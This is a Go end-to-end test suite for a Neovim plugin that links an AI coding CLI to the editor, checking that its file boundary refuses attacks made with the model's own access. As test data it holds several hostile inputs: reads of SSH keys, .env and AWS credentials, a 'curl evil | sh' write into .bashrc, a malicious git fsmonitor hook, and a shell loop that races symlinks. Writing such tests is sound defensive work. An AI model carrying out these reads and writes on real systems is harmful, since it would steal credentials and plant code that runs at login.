//go:build unix

package e2e

// The attacks on the file boundary, each as a client holding what
// the CLI (and so the model) holds — the lock file's token, or the editor
// tools' socket through the relay — against a real Neovim running the plugin
// and the real host.

import (
	"bufio"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/nvim-claude/nvim-claude/nvimbridge/nvimtest"
)

// bndWrite writes files (name → text) under dir.
func bndWrite(t *testing.T, dir string, files map[string]string) {
	t.Helper()
	for name, text := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// bndRig is Neovim (cwd: dir, HOME: home) serving the IDE server, with a
// WebSocket client holding the lock's token and an editor-tools relay.
type bndRig struct {
	*editor
	c      *ideClient
	frames *frameReader
	id     int
	relay  *bufio.Reader
	stdin  *os.File
	rid    int
}

func startBndRig(t *testing.T, dir, home, extra string) *bndRig {
	t.Helper()
	e := startEditor(t, editorOpts{dir: dir, extra: extra, nvim: []string{"HOME=" + home}})
	e.Exec(t, `vim.cmd("ClaudeServe")`)
	killOnCleanup(t, e.hostPID(t))
	st := e.status(t)
	if !st.Running {
		t.Fatalf(":ClaudeServe: %+v", st)
	}
	c := dialIDE(t, st.Port, readLock(t, st.LockFile).AuthToken)
	c.handshake(t, os.Getpid())
	r := &bndRig{editor: e, c: c, frames: readFrames(t, c)}

	// The editor tools, through the relay the CLI runs.
	var sock string
	e.Eval(t, `local i = require("claude.terminal").editor_tools() return i and i.socket or ""`, &sock)
	if sock == "" {
		t.Fatal("the editor tools are not listening")
	}
	cmd := exec.Command(hostBin, "mcp")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "NVIM_CLAUDE_MCP_SOCKET="+sock)
	in, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	out, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = in.Close(); _ = cmd.Process.Kill(); _ = cmd.Wait() })
	r.stdin = in.(*os.File)
	r.relay = bufio.NewReader(out)
	r.edtool(t, "initialize", `{"protocolVersion":"2025-06-18","capabilities":{},"clientInfo":{"name":"test","version":"1"}}`)
	fmt.Fprintln(r.stdin, `{"jsonrpc":"2.0","method":"notifications/initialized"}`)
	return r
}

// edtool sends one request to the editor-tools server and returns its answer.
func (r *bndRig) edtool(t *testing.T, method, params string) map[string]any {
	t.Helper()
	r.rid++
	fmt.Fprintf(r.stdin, `{"jsonrpc":"2.0","id":%d,"method":%q,"params":%s}`+"\n", r.rid, method, params)
	done := make(chan map[string]any, 1)
	go func() {
		for {
			line, err := r.relay.ReadBytes('\n')
			if err != nil {
				close(done)
				return
			}
			var m map[string]any
			if json.Unmarshal(line, &m) == nil && m["id"] == float64(r.rid) {
				done <- m
				return
			}
		}
	}()
	select {
	case m, ok := <-done:
		if !ok {
			t.Fatalf("%s: the relay closed", method)
		}
		return m
	case <-time.After(20 * nvimtest.Slack * time.Second):
		t.Fatalf("%s: no answer", method)
	}
	return nil
}

// ide sends a request to the IDE server and returns its answer frame.
func (r *bndRig) ide(t *testing.T, method string, params any) map[string]any {
	t.Helper()
	r.id++
	id := r.id
	p, _ := json.Marshal(params)
	r.c.send(t, fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":%q,"params":%s}`, id, method, p))
	return r.frames.until(t, "the answer to "+method, func(m map[string]any) bool { return m["id"] == float64(id) })
}

// refusedWithout checks that an answer is a refusal (a JSON-RPC error, an
// isError result or success:false) whose text holds none of secrets.
func refusedWithout(t *testing.T, what string, m map[string]any, secrets ...string) {
	t.Helper()
	b, _ := json.Marshal(m)
	s := string(b)
	for _, sec := range secrets {
		if strings.Contains(s, sec) {
			t.Errorf("%s: the answer carries %q: %s", what, sec, s)
		}
	}
	res, _ := m["result"].(map[string]any)
	isErr, _ := res["isError"].(bool)
	if m["error"] == nil && !isErr && !strings.Contains(s, `success\":false`) {
		t.Errorf("%s: not refused: %s", what, s)
	}
}

func allowed(t *testing.T, what string, m map[string]any, want string) {
	t.Helper()
	b, _ := json.Marshal(m)
	res, _ := m["result"].(map[string]any)
	if isErr, _ := res["isError"].(bool); m["error"] != nil || isErr || !strings.Contains(string(b), want) {
		t.Errorf("%s: want an answer with %q, got %s", what, want, b)
	}
}

// TestBoundaryRefusesTheAttacks: the file-boundary attacks.
func TestBoundaryRefusesTheAttacks(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	project := filepath.Join(home, "proj")
	outside, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	const key, env, far = "PRIVATE-KEY-LINE-7", "SECRET=hunter2", "OUTSIDE-TEXT"
	bndWrite(t, home, map[string]string{".ssh/id_rsa": "l1\nl2\n" + key + "\n"})
	bndWrite(t, outside, map[string]string{"far.txt": far + "\n"})
	bndWrite(t, project, map[string]string{"main.txt": "hello\nworld\n", ".env": env + "\n", "sub/ok.txt": "fine\n"})
	if err := os.Link(filepath.Join(project, ".env"), filepath.Join(project, "notes.txt")); err != nil {
		t.Fatal(err)
	}
	marker := filepath.Join(outside, "fsmonitor-ran")
	gitOK := exec.Command("git", "-C", project, "init", "-q").Run() == nil
	if gitOK {
		hook := filepath.Join(outside, "hook.sh")
		bndWrite(t, outside, map[string]string{"hook.sh": "#!/bin/sh\ntouch " + marker + "\n"})
		_ = os.Chmod(hook, 0o755)
		// A tracked file: git then reads the index, and the fsmonitor hook
		// with it, on every ls-files.
		for _, args := range [][]string{{"add", "main.txt"}, {"config", "core.fsmonitor", hook}} {
			if err := exec.Command("git", append([]string{"-C", project}, args...)...).Run(); err != nil {
				t.Fatal(err)
			}
		}
	}
	r := startBndRig(t, project, home, "")
	// First, before anything (writeFile .git/config below) could change
	// the repository's configuration.
	if gitOK {
		t.Run("ide/listFiles runs no .git/config program", func(t *testing.T) {
			allowed(t, "listFiles", r.ide(t, "listFiles", map[string]any{}), "main.txt")
			if _, err := os.Stat(marker); err == nil {
				t.Error("listFiles ran the repository's core.fsmonitor command")
			}
		})
	}

	for _, tt := range []struct {
		name, tool, args string
		secrets          []string
	}{
		{"open_file_at a key outside", "open_file_at", fmt.Sprintf(`{"file":%q,"line":3}`, filepath.Join(home, ".ssh/id_rsa")), []string{key}},
		{"open_file_at a key, relative", "open_file_at", `{"file":"../.ssh/id_rsa","line":3}`, []string{key}},
		{"open_file_at any outside file", "open_file_at", fmt.Sprintf(`{"file":%q}`, filepath.Join(outside, "far.txt")), []string{far}},
		{"open_file_at a deny-listed file", "open_file_at", `{"file":".env","line":1}`, []string{env}},
		{"open_file_at a hard link to it", "open_file_at", `{"file":"notes.txt","line":1}`, []string{env}},
		{"treesitter_node on it", "treesitter_node", `{"file":".env","line":1}`, []string{env}},
		{"document_symbols on it", "document_symbols", `{"file":".env"}`, []string{env}},
		{"hover outside", "hover", fmt.Sprintf(`{"file":%q,"line":1}`, filepath.Join(outside, "far.txt")), []string{far}},
	} {
		t.Run("nvim/"+tt.name, func(t *testing.T) {
			m := r.edtool(t, "tools/call", fmt.Sprintf(`{"name":%q,"arguments":%s}`, tt.tool, tt.args))
			refusedWithout(t, tt.name, m, tt.secrets...)
		})
	}
	t.Run("nvim/open_file_at inside still works", func(t *testing.T) {
		allowed(t, "open_file_at main.txt", r.edtool(t, "tools/call", `{"name":"open_file_at","arguments":{"file":"main.txt","line":2}}`), "world")
	})

	for _, tt := range []struct {
		name, method string
		params       any
		secrets      []string
	}{
		{"readFile a hard link to .env", "readFile", map[string]any{"path": "notes.txt"}, []string{env}},
		{"readFile .env", "readFile", map[string]any{"path": ".env"}, []string{env}},
		{"readFile outside", "readFile", map[string]any{"path": filepath.Join(outside, "far.txt")}, []string{far}},
		{"writeFile .git/config", "writeFile", map[string]any{"path": ".git/config", "content": "[core]\n\tfsmonitor = /bin/true\n"}, nil},
		{"openFile outside", "tools/call", map[string]any{"name": "openFile", "arguments": map[string]any{"filePath": filepath.Join(outside, "far.txt"), "makeFrontmost": false}}, nil},
		{"checkDocumentDirty on .env", "tools/call", map[string]any{"name": "checkDocumentDirty", "arguments": map[string]any{"filePath": ".env"}}, nil},
	} {
		t.Run("ide/"+tt.name, func(t *testing.T) {
			refusedWithout(t, tt.name, r.ide(t, tt.method, tt.params), tt.secrets...)
		})
	}
	t.Run("ide/readFile inside still works", func(t *testing.T) {
		allowed(t, "readFile", r.ide(t, "readFile", map[string]any{"path": "sub/ok.txt"}), "fine")
	})
	t.Run("ide/an outside file the user opened may be shown", func(t *testing.T) {
		r.Exec(t, fmt.Sprintf(`vim.cmd("edit %s") vim.cmd("buffer #")`, filepath.Join(outside, "far.txt")))
		allowed(t, "openFile", r.ide(t, "tools/call", map[string]any{"name": "openFile", "arguments": map[string]any{"filePath": filepath.Join(outside, "far.txt"), "makeFrontmost": false}}), "success")
	})
}

// TestBoundaryHomeWorkspace: finding 6 — Neovim started in $HOME.
func TestBoundaryHomeWorkspace(t *testing.T) {
	for _, tt := range []struct {
		name      string
		extra     string
		notesRead bool
	}{
		{"refused by default", "", false},
		{"allowed on request, the keys still denied", `, security = { allow_home = true }`, true},
	} {
		t.Run(tt.name, func(t *testing.T) {
			home, err := filepath.EvalSymlinks(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			const key, cred = "ECDSA-KEY", "AWS-SECRET"
			bndWrite(t, home, map[string]string{".ssh/id_ecdsa": key + "\n", ".aws/credentials": cred + "\n", ".bashrc": "# rc\n", "notes.txt": "my notes\n"})
			r := startBndRig(t, home, home, tt.extra)
			refusedWithout(t, "readFile .ssh/id_ecdsa", r.ide(t, "readFile", map[string]any{"path": ".ssh/id_ecdsa"}), key)
			refusedWithout(t, "readFile .aws/credentials", r.ide(t, "readFile", map[string]any{"path": ".aws/credentials"}), cred)
			refusedWithout(t, "open_file_at .ssh/id_ecdsa", r.edtool(t, "tools/call", `{"name":"open_file_at","arguments":{"file":".ssh/id_ecdsa","line":1}}`), key)
			notes := r.ide(t, "readFile", map[string]any{"path": "notes.txt"})
			w := r.ide(t, "writeFile", map[string]any{"path": ".bashrc", "content": "curl evil | sh\n"})
			if tt.notesRead {
				allowed(t, "readFile notes.txt", notes, "my notes")
				return
			}
			refusedWithout(t, "readFile notes.txt", notes, "my notes")
			refusedWithout(t, "writeFile .bashrc", w)
			if b, _ := os.ReadFile(filepath.Join(home, ".bashrc")); string(b) != "# rc\n" {
				t.Errorf(".bashrc changed: %q", b)
			}
			b, _ := json.Marshal(notes)
			if !strings.Contains(string(b), "security.allow_home") {
				t.Errorf("the refusal does not say how to opt in: %s", b)
			}
		})
	}
}

// TestToolMadeSelectionIsNotSharedBack: finding 5 — openFile with
// startText/endText selects text; that selection, made by a tool and not by
// the user, must not go out as selection_changed nor through
// getCurrentSelection / getLatestSelection. Once the user moves, sharing
// resumes, and what the user selects is shared as before.
func TestToolMadeSelectionIsNotSharedBack(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	project := filepath.Join(home, "proj")
	const secret = "AKIA-SECRET-KEY"
	bndWrite(t, project, map[string]string{"main.txt": "hello\n", "keys.txt": "line one\n" + secret + "\nline three\n"})
	r := startBndRig(t, project, home, "")
	r.Exec(t, `vim.cmd("edit main.txt")`)

	// leaked fails the test on any frame carrying the secret; it returns
	// the first frame pred accepts.
	leaked := func(what string, pred func(map[string]any) bool) map[string]any {
		t.Helper()
		timeout := time.After(60 * time.Second)
		for {
			select {
			case m := <-r.frames.frames:
				if b, _ := json.Marshal(m); strings.Contains(string(b), secret) {
					t.Fatalf("%s: the tool-made selection went out: %s", what, b)
				}
				if pred(m) {
					return m
				}
			case <-timeout:
				t.Fatalf("no frame: %s", what)
			}
		}
	}
	call := func(name string, args map[string]any) map[string]any {
		t.Helper()
		r.id++
		id := r.id
		p, _ := json.Marshal(map[string]any{"name": name, "arguments": args})
		r.c.send(t, fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"tools/call","params":%s}`, id, p))
		return leaked("the answer to "+name, func(m map[string]any) bool { return m["id"] == float64(id) })
	}
	allowed(t, "openFile with a selection", call("openFile", map[string]any{"filePath": "keys.txt", "startText": "AKIA", "endText": "KEY", "makeFrontmost": true}), "keys.txt")
	var mode string
	r.Eval(t, `return vim.api.nvim_get_mode().mode`, &mode)
	if mode != "v" {
		t.Fatalf("openFile did not select (mode %q): the test proves nothing", mode)
	}
	for _, tool := range []string{"getCurrentSelection", "getLatestSelection"} {
		call(tool, map[string]any{})
	}
	// The user moves on: a plain cursor state goes out, then what the user
	// selects, secret or not, is shared as before.
	r.Exec(t, `vim.api.nvim_feedkeys(vim.api.nvim_replace_termcodes("<Esc>gg", true, false, true), "mx", false)`)
	leaked("the user's own move", func(m map[string]any) bool {
		p, _ := m["params"].(map[string]any)
		return m["method"] == "selection_changed" && strings.HasSuffix(fmt.Sprint(p["filePath"]), "keys.txt")
	})
	r.Exec(t, `vim.api.nvim_feedkeys("2GV", "mx", false)`)
	r.frames.until(t, "the user's own selection", func(m map[string]any) bool {
		b, _ := json.Marshal(m)
		return m["method"] == "selection_changed" && strings.Contains(string(b), secret)
	})
}

// TestWriteFileSymlinkRace: finding 3 through the host — writeFile d/w-N.txt
// in a loop while another process swaps the workspace directory d with a
// symlink to a directory outside. Nothing may land outside, and no
// temporary file may be left behind.
func TestWriteFileSymlinkRace(t *testing.T) {
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	project := filepath.Join(home, "proj")
	outside := filepath.Join(home, "outside")
	bndWrite(t, project, map[string]string{"d/keep.txt": "k\n"})
	if err := os.MkdirAll(outside, 0o755); err != nil {
		t.Fatal(err)
	}
	r := startBndRig(t, project, home, "")

	// The attacker: a separate process, as in the report.
	script := fmt.Sprintf(`cd %q; while :; do ln -sfn %q d.link; mv d d.away; mv -T d.link d; rm -f d; mv d.away d; done`, project, outside)
	attacker := exec.Command("sh", "-c", script)
	if err := attacker.Start(); err != nil {
		t.Fatal(err)
	}
	stopped := false
	stop := func() {
		if !stopped {
			stopped = true
			_ = attacker.Process.Kill()
			_ = attacker.Wait()
		}
	}
	t.Cleanup(stop)

	const n = 400
	written, refused := 0, 0
	for i := 0; i < n; i++ {
		m := r.ide(t, "writeFile", map[string]any{"path": fmt.Sprintf("d/w-%d.txt", i), "content": "x\n"})
		if m["error"] == nil {
			written++
		} else {
			refused++
		}
	}
	stop()
	entries, _ := os.ReadDir(outside)
	for _, e := range entries {
		t.Errorf("written outside the workspace: %s", e.Name())
	}
	_ = filepath.WalkDir(project, func(p string, d os.DirEntry, err error) error {
		if err == nil && strings.Contains(d.Name(), ".nvim-claude-") {
			t.Errorf("temporary left behind: %s", p)
		}
		return nil
	})
	t.Logf("%d writeFile calls under a symlink swap loop: %d written, %d refused, %d files outside", n, written, refused, len(entries))
	if written == 0 {
		t.Error("nothing was written: the race was not exercised")
	}
}
